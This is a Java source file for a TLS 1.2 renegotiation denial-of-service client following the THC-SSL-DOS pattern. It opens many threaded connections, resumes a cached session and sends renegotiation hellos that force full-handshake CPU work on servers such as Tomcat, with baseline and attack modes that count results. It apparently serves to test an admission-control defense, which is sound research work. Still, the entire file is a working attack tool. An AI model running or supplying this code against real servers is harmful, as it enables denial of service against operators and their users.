package io.tlsadmit.attack.client;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.io.InputStream;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.atomic.AtomicLong;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLEngineResult;
import javax.net.ssl.SSLEngineResult.HandshakeStatus;
import javax.net.ssl.SSLException;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SNIHostName;

/**
 * TLS 1.2 client-initiated renegotiation, the THC-SSL-DOS pattern: connect, resume (cheap, so admitted
 * on any budget), send a renegotiation ClientHello that cannot resume, close at once. The server does
 * the full handshake's work when it reads that hello, whether or not anyone waits for the answer.
 *
 * <p>Built on an {@link SSLEngine} rather than an SSLSocket so that the client can send the hello and
 * leave without waiting: a socket's {@code startHandshake()} blocks until the server answers, and a JDK
 * client that sees the server end a renegotiation invalidates its session, after which nothing resumes.
 * The engine here is simply dropped, so the session stays in the context's cache for the next
 * connection. The renegotiation cannot resume because the session's cipher suite is no longer offered.
 */
public final class RenegotiatingClient {
    private static final int TIMEOUT_MILLIS = 5_000;
    /** Far longer than a full handshake's CPU on the server (a few ms), far shorter than any timeout of Tomcat's. */
    private static final int RENEGOTIATION_WAIT_MILLIS = 200;

    private final SSLContext context;
    private final InetSocketAddress server;
    private volatile byte[] sessionId = new byte[0];

    public record Counts(long connections, long resumed, long renegotiationsSent, long failures, double seconds) {
        public double perSecond() {
            return connections / seconds;
        }
    }

    /** @param context a TLS 1.2 client context; its session cache carries the session every connection resumes */
    public RenegotiatingClient(SSLContext context, InetSocketAddress server) {
        this.context = context;
        this.server = server;
    }

    /** The one full handshake that puts the session in the cache. */
    public void establish() throws IOException {
        try (Socket channel = connect()) {
            SSLEngine engine = engine();
            handshake(engine, channel);
            sessionId = engine.getSession().getId();
        }
    }

    /** Connect, resume, close; {@code threads} at once for {@code seconds}. */
    public Counts baseline(int threads, double seconds) throws InterruptedException {
        return run(threads, seconds, false);
    }

    /** Connect, resume, send a renegotiation hello asking for a new session, close. */
    public Counts attack(int threads, double seconds) throws InterruptedException {
        return run(threads, seconds, true);
    }

    private Counts run(int threads, double seconds, boolean renegotiate) throws InterruptedException {
        AtomicLong connections = new AtomicLong();
        AtomicLong resumed = new AtomicLong();
        AtomicLong sent = new AtomicLong();
        AtomicLong failures = new AtomicLong();
        long start = System.nanoTime();
        long end = start + (long) (seconds * 1e9);
        List<Thread> workers = new ArrayList<>();
        for (int i = 0; i < threads; i++) {
            Thread t = new Thread(() -> {
                while (System.nanoTime() < end) {
                    connections.incrementAndGet();
                    try (Socket channel = connect()) {
                        SSLEngine engine = engine();
                        handshake(engine, channel);
                        if (Arrays.equals(engine.getSession().getId(), sessionId)) {
                            resumed.incrementAndGet();
                        }
                        if (renegotiate) {
                            sendRenegotiationHello(engine, channel);
                            sent.incrementAndGet();
                        }
                    } catch (IOException | RuntimeException e) {
                        failures.incrementAndGet();
                    }
                }
            }, (renegotiate ? "renegotiate-" : "resume-") + i);
            t.start();
            workers.add(t);
        }
        for (Thread t : workers) {
            t.join();
        }
        return new Counts(connections.get(), resumed.get(), sent.get(), failures.get(), (System.nanoTime() - start) / 1e9);
    }

    private Socket connect() throws IOException {
        Socket socket = new Socket();
        try {
            socket.connect(server, TIMEOUT_MILLIS);
            socket.setSoTimeout(TIMEOUT_MILLIS);
            socket.setTcpNoDelay(true);
            return socket;
        } catch (IOException e) {
            socket.close();
            throw e;
        }
    }

    private SSLEngine engine() {
        // Host and port name the session-cache entry, so each new engine offers the cached session.
        SSLEngine engine = context.createSSLEngine(TlsDial.HOST, server.getPort());
        engine.setUseClientMode(true);
        SSLParameters parameters = engine.getSSLParameters();
        parameters.setServerNames(List.of(new SNIHostName(TlsDial.HOST)));
        parameters.setProtocols(new String[] {"TLSv1.2"});
        engine.setSSLParameters(parameters);
        return engine;
    }

    private static void sendRenegotiationHello(SSLEngine engine, Socket channel) throws IOException {
        String suite = engine.getSession().getCipherSuite();
        engine.setEnabledCipherSuites(Arrays.stream(engine.getEnabledCipherSuites())
                .filter(s -> !s.equals(suite)).toArray(String[]::new));
        engine.beginHandshake();
        ByteBuffer out = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        SSLEngineResult result = engine.wrap(ByteBuffer.allocate(0), out);
        if (result.getStatus() != SSLEngineResult.Status.OK || out.position() == 0) {
            throw new SSLException("no renegotiation hello produced: " + result);
        }
        write(channel, out);
        // Stay until the server has read it: Tomcat returns end-of-stream on a read that finds the client
        // gone before it unwraps what is buffered, so a hello followed at once by a close is never looked at.
        // A gate that refuses closes at once; a server that does the work answers nothing (Tomcat's NIO
        // channel never writes a renegotiation's flight), so the wait ends at the timeout.
        channel.setSoTimeout(RENEGOTIATION_WAIT_MILLIS);
        try {
            while (channel.getInputStream().read() >= 0) {
                // an answer: whatever it is, the server has read the hello
            }
        } catch (SocketTimeoutException | java.net.SocketException e) {
            // waited long enough, or reset: either way the server had the hello
        }
    }

    /** A blocking client handshake over the socket. */
    private static void handshake(SSLEngine engine, Socket channel) throws IOException {
        int packet = engine.getSession().getPacketBufferSize();
        ByteBuffer netIn = ByteBuffer.allocate(packet);
        ByteBuffer netOut = ByteBuffer.allocate(packet);
        ByteBuffer app = ByteBuffer.allocate(engine.getSession().getApplicationBufferSize());
        ByteBuffer empty = ByteBuffer.allocate(0);
        engine.beginHandshake();
        HandshakeStatus status = engine.getHandshakeStatus();
        while (status != HandshakeStatus.FINISHED && status != HandshakeStatus.NOT_HANDSHAKING) {
            switch (status) {
                case NEED_WRAP -> {
                    netOut.clear();
                    status = engine.wrap(empty, netOut).getHandshakeStatus();
                    write(channel, netOut);
                }
                case NEED_UNWRAP, NEED_UNWRAP_AGAIN -> {
                    netIn.flip();
                    SSLEngineResult result = engine.unwrap(netIn, app);
                    netIn.compact();
                    status = result.getHandshakeStatus();
                    if (result.getStatus() == SSLEngineResult.Status.BUFFER_UNDERFLOW) {
                        read(channel.getInputStream(), netIn);
                    } else if (result.getStatus() == SSLEngineResult.Status.CLOSED) {
                        throw new IOException("the server closed during the handshake");
                    }
                }
                case NEED_TASK -> {
                    Runnable task;
                    while ((task = engine.getDelegatedTask()) != null) {
                        task.run();
                    }
                    status = engine.getHandshakeStatus();
                }
                default -> throw new IllegalStateException("unexpected handshake status " + status);
            }
        }
    }

    private static void read(InputStream in, ByteBuffer into) throws IOException {
        int n = in.read(into.array(), into.arrayOffset() + into.position(), into.remaining());
        if (n < 0) {
            throw new IOException("the server closed during the handshake");
        }
        into.position(into.position() + n);
    }

    private static void write(Socket socket, ByteBuffer out) throws IOException {
        out.flip();
        socket.getOutputStream().write(out.array(), out.arrayOffset() + out.position(), out.remaining());
        socket.getOutputStream().flush();
        out.position(out.limit());
    }
}
